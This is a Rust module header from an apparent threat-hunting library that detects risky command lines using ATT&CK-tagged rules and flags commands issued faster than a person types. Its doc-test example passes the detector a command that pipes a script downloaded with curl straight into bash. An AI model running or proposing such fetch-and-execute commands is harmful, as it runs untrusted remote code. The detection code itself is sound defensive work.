//! Risky command lines and commands run too fast to be typed by a person.
//!
//! - `rules`: [`RuleSet`] — msticpy's `cmd_line_rules.json` (vendored from the msticpy 3.0.2
//!   wheel, MIT, credited in `data/cmdline/README.md`) plus huntbook's own rules, each tagged
//!   with an ATT&CK technique; or rules of your own from JSON.
//! - [`risky_cmd_line`]: the rows whose command matches a rule, with the rule added; base64
//!   inside a command (PowerShell `-enc`, `echo … | base64 -d`) is decoded and matched too.
//! - [`cmd_speed`]: bursts of commands closer together than a person types.
//! - `columns`: reading text and times out of frames (shared with auditd and syslog).
//!
//! ```
//! use huntbook_analysis::cmdline::{RiskyOptions, check_command};
//!
//! let hit = check_command("curl -s http://203.0.113.7/x.sh | bash", &RiskyOptions::default());
//! assert_eq!(hit.technique.as_deref(), Some("T1059.004"));
//! ```

pub(crate) mod columns;
mod risky;
mod rules;
mod speed;

pub use columns::ColumnError;
pub use risky::{CmdLineError, CmdMatch, RiskyOptions, check_command, risky_cmd_line};
pub use rules::{Platform, Rule, RuleError, RuleSet, Severity, UnknownName};
pub use speed::cmd_speed;
